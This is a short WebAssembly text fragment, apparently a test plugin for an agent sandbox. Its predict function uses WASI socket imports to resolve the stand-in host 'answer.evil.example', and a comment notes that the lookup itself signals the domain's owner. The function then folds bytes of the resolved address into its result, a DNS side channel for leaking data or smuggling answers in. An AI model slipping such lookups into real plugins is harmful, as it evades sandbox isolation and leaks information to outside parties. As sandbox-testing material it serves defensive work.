;; Looks up a name, which alone would tell the owner of its domain something.
(import "wasi:sockets/instance-network@0.2.0" "instance-network" (func $network (result i32)))
(import "wasi:sockets/ip-name-lookup@0.2.0" "resolve-addresses"
    (func $resolve (param i32 i32 i32 i32)))
(data (i32.const 4096) "answer.evil.example")
(func (export "safewebworld:plugin/agents@0.1.0#predict") (param $input i32) (result i32)
    (call $resolve (call $network) (i32.const 4096) (i32.const 19) (i32.const 8192))
    (call $answer-number (i64.or
        (i64.shl (i64.load8_u (i32.const 8192)) (i64.const 8))
        (i64.load8_u (i32.const 8196)))))
